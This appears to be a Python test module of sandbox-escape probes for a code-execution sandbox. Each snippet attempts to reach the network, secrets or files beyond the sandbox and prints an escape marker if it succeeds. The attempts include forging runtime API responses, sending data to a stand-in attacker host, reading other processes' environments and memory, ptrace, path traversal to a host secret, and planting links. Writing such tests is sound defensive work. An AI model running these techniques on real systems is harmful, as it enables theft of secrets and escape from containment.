"""Attacks on what lies beside the sandbox: network, secrets, files. Each prints ESCAPE if it works."""

NETWORK = {
    "steal the next invocation from the runtime API": """
import urllib.request
try:
    answer = urllib.request.urlopen(f"http://127.0.0.1:{RUNTIME}/2018-06-01/runtime/invocation/next", timeout=1).read()
    if CANARY.encode() in answer: esc(answer)
except Exception as e: print("no", e)
""",
    "post a forged answer to an invocation": """
import urllib.request
try:
    url = f"http://127.0.0.1:{RUNTIME}/2018-06-01/runtime/invocation/x/response"
    urllib.request.urlopen(urllib.request.Request(url, data=b"FORGED"), timeout=1).read(); esc("posted")
except Exception as e: print("no", e)
""",
    "carry something out in names that are asked for": """
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    s.sendto(b"secret.attacker.example", ("127.0.0.1", NAMES)); esc(s.recv(99))
except OSError as e: print("no", e)
""",
    "connect to an abstract socket of the host": """
try: s = socket.socket(socket.AF_UNIX); s.settimeout(1); s.connect("\\0" + ABSTRACT); esc(s.recv(99))
except OSError as e: print("no", e)
""",
    "connect to a socket at a path, as of Docker": """
try: s = socket.socket(socket.AF_UNIX); s.settimeout(1); s.connect(W + "/ctl.sock"); esc(s.recv(99))
except OSError as e: print("no", e)
""",
    "sockets of the kernel: netlink, packet, vsock, alg": """
for family, kind in ((16, 3), (17, 3), (40, 1), (38, 5)):
    try: socket.socket(family, kind); esc(f"family {family}")
    except OSError as e: print(family, e)
""",
}

SECRETS = {
    "its own environment": "if CANARY in str(dict(os.environ)): esc('env')",
    "its environment as the kernel has it": """
try:
    if CANARY.encode() in open("/proc/self/environ", "rb").read(): esc("environ")
except OSError as e: print(e)
""",
    "the environment of the first process": """
try:
    if b"=" in open("/proc/1/environ", "rb").read() and os.getpid() != 1: esc("environ of 1")
except OSError as e: print(e)
""",
    "the environment of all processes": """
try:
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                if CANARY.encode() in open(f"/proc/{p}/environ", "rb").read(): esc(p)
            except OSError: pass
except OSError as e: print(e)
for p in (VPID, SPID):
    try:
        if open(f"/proc/{p}/environ", "rb").read(): esc(p)
    except OSError as e: print(e)
""",
    "the memory of another process": """
try:
    for line in open(f"/proc/{VPID}/maps"):
        if "rw-p" in line:
            a, b = [int(x, 16) for x in line.split()[0].split("-")]
            with open(f"/proc/{VPID}/mem", "rb", 0) as m:
                m.seek(a)
                if b"MEMCANARY" in m.read(min(b - a, 1 << 24)): esc("mem"); break
except OSError as e: print(e)
""",
    "process_vm_readv on another process": """
class iov(ctypes.Structure): _fields_ = [("b", ctypes.c_void_p), ("l", ctypes.c_size_t)]
buf = ctypes.create_string_buffer(64); l = iov(ctypes.addressof(buf), 64); r = iov(0x400000, 64)
n, e = raw("process_vm_readv", VPID, ctypes.byref(l), ctypes.c_long(1), ctypes.byref(r), ctypes.c_long(1), 0)
if n >= 0 or e == errno.EFAULT: esc("reached it")
""",
    "what the supervisor holds: its environment, memory and files": """
class iov(ctypes.Structure): _fields_ = [("b", ctypes.c_void_p), ("l", ctypes.c_size_t)]
buf = ctypes.create_string_buffer(64); l = iov(ctypes.addressof(buf), 64); r = iov(0x400000, 64)
for name in ("environ", "mem", "maps", "auxv"):
    try: open(f"/proc/{SPID}/{name}", "rb").close(); esc(name)
    except OSError as e: print(e)
for ask in (lambda p: os.open(p, os.O_RDONLY | os.O_NONBLOCK), os.readlink):
    for name in ("fd/0", "fd/1", "exe", "cwd"):
        try: esc(ask(f"/proc/{SPID}/{name}"))
        except OSError as e: print(e)
n, e = raw("process_vm_readv", SPID, ctypes.byref(l), ctypes.c_long(1), ctypes.byref(r), ctypes.c_long(1), 0)
if n >= 0 or e == errno.EFAULT: esc("reached it")
fd, e = raw("pidfd_open", SPID, 0)
if fd >= 0 and raw("pidfd_getfd", fd, 0, 0)[0] >= 0: esc("stolen")
""",
    "ptrace on another process": """
n, e = raw("ptrace", 16, VPID, 0, 0)
if n == 0: esc("attached"); raw("ptrace", 17, VPID, 0, 0)
""",
    "a file descriptor of another process": """
fd, e = raw("pidfd_open", VPID, 0)
if fd >= 0:
    n, e = raw("pidfd_getfd", fd, 0, 0)
    if n >= 0: esc("stolen")
""",
    "the command lines of all processes": """
try:
    lines = [open(f"/proc/{p}/cmdline").read() for p in os.listdir("/proc") if p.isdigit()]
    if any("host_victim" in x for x in lines): esc(len(lines))
except OSError as e: print(e)
""",
    "signal another process": """
for p in (VPID, SPID):
    try: os.kill(p, 0); esc("signalled")
    except OSError as e: print(e)
    try: os.kill(-1, 0); esc("signalled all")
    except OSError as e: print(e)
""",
    "let the kernel signal another process": """
import fcntl
r, w = os.pipe()
for ask in (lambda: fcntl.fcntl(r, 8, VPID), lambda: fcntl.fcntl(r, 10, 9)):
    try: ask(); esc("owner set")
    except OSError as e: print(e)
""",
    "take another process's processors": """
try: os.sched_setaffinity(VPID, {0}); esc("moved")
except OSError as e: print(e)
""",
    "files that were left open": """
for fd in range(3, 256):
    try: mode = os.fstat(fd).st_mode
    except OSError: continue
    if fd not in (10, 11) and (stat.S_ISSOCK(mode) or stat.S_ISREG(mode) or stat.S_ISDIR(mode)): esc((fd, oct(mode)))
""",
    "memory that is shared with the fork server": """
for line in open("/proc/self/maps"):
    if line.split()[1].startswith("rw") and line.split()[1].endswith("s"): esc(line)
""",
}

FILES = {
    "read a secret": """
try: esc(open(W + "/host_secret.txt").read())
except OSError as e: print(e)
""",
    "read what another executor has": """
try: esc(open(W + "/exec_other/data.csv").read())
except OSError as e: print(e)
known = {*os.getcwd().split("/"), "scratch", "memory"}
for folder in ("..", "../..", "../../.."):
    try:
        if others := set(os.listdir(folder)) - known: esc(others)
    except OSError as e: print(e)
""",
    "a stored file's path that leads out": """
for given in (("../..", "host_secret.txt"), ("m1", "../../host_secret.txt"), ("/etc", "passwd"), ("m1", "..")):
    try:
        text = get_memory_path(*given).read_text()
        if text != "data": esc(text)
    except Exception as e: print(type(e).__name__)
""",
    "a link in a readable folder": """
import pathlib
for p in pathlib.Path(os.getcwd()).parent.joinpath("memory").glob("*/evil_link"):
    try: esc(p.read_text())
    except OSError as e: print(e)
""",
    "write elsewhere": """
for p in (W + "/pwned.txt", "/tmp/pwned_by_sandbox.txt", "/var/tmp/pwned.txt", os.path.expanduser("~root") + "/pwned"):
    try: open(p, "w").write("x"); esc(p)
    except OSError as e: print(p, e)
""",
    "poison a package": """
import json as package
for p in (W + "/site/pkg.py", package.__file__, os.path.dirname(package.__file__) + "/new.py"):
    try: open(p, "a").close(); esc(p)
    except OSError as e: print(e)
""",
    "write to a stored file": """
path = get_memory_path("m1")
for mode in ("w", "a", "r+"):
    try: open(path, mode).write("changed"); esc("changed")
    except OSError as e: print(e)
try: os.truncate(path, 0)
except OSError as e: print(e)
if path.read_text() != "data": esc("truncated")
""",
    "change the mode of files elsewhere": """
import fcntl
path = get_memory_path("m1")
before = os.stat(path).st_mode
for p in (W + "/host_secret.txt", str(path), os.__file__):
    try: os.chmod(p, 0o777); os.utime(p, (1, 1))
    except OSError as e: print(e)
for p in (str(path), os.__file__):
    with open(p) as f:
        try: os.fchmod(f.fileno(), 0o777)
        except OSError as e: print(e)
if os.stat(path).st_mode != before or os.stat(os.__file__).st_mtime == 1: esc("changed")
""",
    "plant a link for the supervisor to follow": """
try: os.symlink(W + "/host_secret.txt", "out.csv"); esc("link")
except OSError as e: print(e)
""",
    "a hard link to a file elsewhere": """
try: os.link(W + "/host_secret.txt", "hard.txt"); esc(open("hard.txt").read())
except OSError as e: print(e)
""",
    "a pipe or device that blocks the supervisor": """
for make in (lambda: os.mkfifo("fifo"), lambda: os.mknod("dev", 0o600 | stat.S_IFCHR, os.makedev(1, 1))):
    try: make(); esc("made")
    except OSError as e: print(e)
""",
    "leave something in shared memory": """
for p in ("/dev/shm/leak", "/run/leak", "/var/lock/leak"):
    try: open(p, "w").write("x"); esc(p)
    except OSError as e: print(e)
""",
    "out through /proc and ..": """
up = "/.." * 12
for p in ("/proc/self/root", "/proc/1/root", "/proc/self/cwd" + up, os.getcwd() + up, "/proc/self/fd/0/.."):
    try: esc(open(p + W + "/host_secret.txt").read())
    except OSError as e: print(e)
""",
    "move a file out of the work folder": """
open("mine.txt", "w").write("x")
for p in (W + "/pwned.txt", "../mine.txt", "../memory/mine.txt"):
    try: os.rename("mine.txt", p); esc(p)
    except OSError as e: print(e)
""",
    "attributes of files elsewhere": """
for p in (W + "/host_secret.txt", "a.txt"):
    try: os.setxattr(p, "user.x", b"1"); esc(p)
    except OSError as e: print(e)
""",
}
